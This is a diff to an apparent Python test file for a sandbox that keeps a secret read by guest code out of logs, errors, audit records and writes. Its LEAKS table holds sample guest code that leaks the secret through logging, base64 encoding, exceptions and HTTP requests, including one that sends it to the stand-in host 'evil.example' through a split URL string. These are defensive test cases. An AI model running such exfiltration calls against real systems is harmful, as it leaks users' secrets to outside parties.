@@ -1,4 +1,4 @@
-"""A secret that a guest has read stays out of everything that a run leaves: its log, its error, its audit, its writes."""
+"""A secret that a guest has read stays out of all that a run leaves: its log, its error, its audit, its writes."""
 
 from __future__ import annotations
 
@@ -33,7 +33,8 @@ LEAKS = {
     "logged": "Log.info(secret())",
     "logged_data": "Log.info('x', {'a': [secret()], secret(): 1})",
     "logged_exception": "Log.info('x', {'error': ValueError(secret())})",
-    "logged_with_its_cause": "try:\n    try: deeper(secret())\n    except ValueError as e: raise KeyError('outer') from e\n"
+    "logged_with_its_cause": "try:\n    try: deeper(secret())\n"
+    "    except ValueError as e: raise KeyError('outer') from e\n"
     "except KeyError as e: Log.error('x', e)",
     "base64": "Log.info(base64.b64encode(secret().encode()).decode())",
     "base64_inside": "Log.info(base64.b64encode(b'user:' + secret().encode()).decode())",
@@ -61,7 +62,7 @@ LEAKS = {
     "raised_decoded": "return (secret().encode() + b'\\xff').decode()",
     "exit": "raise SystemExit(secret())",
     "freed": "s = secret()\ndef g():\n    try: yield\n    finally: raise ValueError(s)\nx = g()\nnext(x)\nx = None",
-    "url": "try: Http.get('https://evil.example/' + secret())\nexcept Exception as e: Log.info(str(e))",
+    "url": "try: Http.get('https:/' + '/evil.example/' + secret())\nexcept Exception as e: Log.info(str(e))",
     "allowed_url": "Http.get('https://api.acme.example/' + secret())",
     "query": "Http.get('https://api.acme.example/x?key=' + secret())",
     "not_a_url": "Http.get(secret())",
